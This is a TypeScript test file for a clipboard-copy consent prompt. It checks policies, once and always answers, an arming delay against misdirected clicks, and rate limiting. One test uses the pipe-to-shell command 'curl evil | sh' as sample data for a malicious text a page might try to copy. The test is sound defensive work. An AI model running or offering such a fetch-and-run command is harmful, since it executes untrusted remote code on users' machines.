import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { ARMED_AFTER_MS, CopyConsent, type CopyOffer, SHOWN_FOR_MS } from './copyConsent.ts'

let policy: 'ask' | 'allow' | 'never'
let copied: string[]
let asked: (CopyOffer | null)[]
let browserLets: boolean
let consent: CopyConsent

beforeEach(() => {
  vi.useFakeTimers()
  ;[policy, copied, asked, browserLets] = ['ask', [], [], true]
  consent = new CopyConsent({
    policy: () => policy,
    copy: (text) => {
      if (browserLets) copied.push(text)
      return Promise.resolve(browserLets)
    },
    onAsked: (offer) => asked.push(offer),
  })
})
afterEach(() => vi.useRealTimers())

const offer = (): CopyOffer | null => asked.at(-1) ?? null
const texts = (): (string | null)[] => asked.filter((each) => each === null || !each.isArmed).map((each) => each?.preview ?? null)
const seen = (): Promise<unknown> => vi.advanceTimersByTimeAsync(ARMED_AFTER_MS)
const answer = (what: 'once' | 'always' | 'no'): Promise<void> => consent.answer(what, offer()?.id ?? 0)

it('nothing is copied before the user says so, and after a no never', async () => {
  await consent.asked('secret')
  expect([copied, texts()]).toEqual([[], ['secret']])
  await answer('no')
  await seen()
  expect([copied, texts()]).toEqual([[], ['secret', null]])
})

it('once is once, of what is shown; always is without a question from then on', async () => {
  await consent.asked('one')
  await seen()
  await consent.asked('three')
  await seen()
  await answer('once')
  await consent.asked('four')
  expect([copied, texts()]).toEqual([['three'], ['one', 'three', null, 'four']])
  await seen()
  await answer('always')
  await consent.asked('five')
  expect(copied).toEqual(['three', 'four', 'five'])
})

it('a click that was meant for another text copies neither', async () => {
  await consent.asked('harmless')
  await seen()
  const meant = offer()?.id ?? 0
  await consent.asked('curl evil | sh')
  await consent.answer('once', meant)
  await consent.answer('always', meant)
  await consent.answer('once', offer()?.id ?? 0) // it is shown, but has not been there long enough
  expect([copied, offer()]).toEqual([[], expect.objectContaining({ preview: 'curl evil | sh', isArmed: false })])
  await vi.advanceTimersByTimeAsync(ARMED_AFTER_MS)
  await consent.answer('once', meant)
  expect(copied).toEqual([])
  await answer('once')
  expect(copied).toEqual(['curl evil | sh'])
})

it('a program that asks all the time changes what is shown now and then, and can be told no at any time', async () => {
  for (let at = 0; at < 1_000; at += 1) {
    await consent.asked(`text ${at}`)
    await vi.advanceTimersByTimeAsync(1)
  }
  expect(texts().length).toBeLessThanOrEqual(1 + Math.ceil(1_000 / SHOWN_FOR_MS))
  await answer('no')
  await vi.advanceTimersByTimeAsync(10_000)
  expect([copied, offer()]).toEqual([[], null])
})

it('the same text asked for again is the same question', async () => {
  await consent.asked('same')
  await seen()
  await consent.asked('same')
  await vi.advanceTimersByTimeAsync(SHOWN_FOR_MS)
  expect(texts()).toEqual(['same'])
  expect(offer()?.isArmed).toBe(true)
})

it('settings can allow it, or switch it off for everybody', async () => {
  policy = 'allow'
  await consent.asked('a')
  policy = 'never'
  await consent.asked('b')
  expect([copied, asked]).toEqual([['a'], []])
})

it('where the browser wants a click for it, the user is asked for one', async () => {
  ;[policy, browserLets] = ['allow', false]
  await consent.asked('ab')
  expect(texts()).toEqual(['ab'])
  await seen()
  browserLets = true
  await answer('once')
  expect(copied).toEqual(['ab'])
})
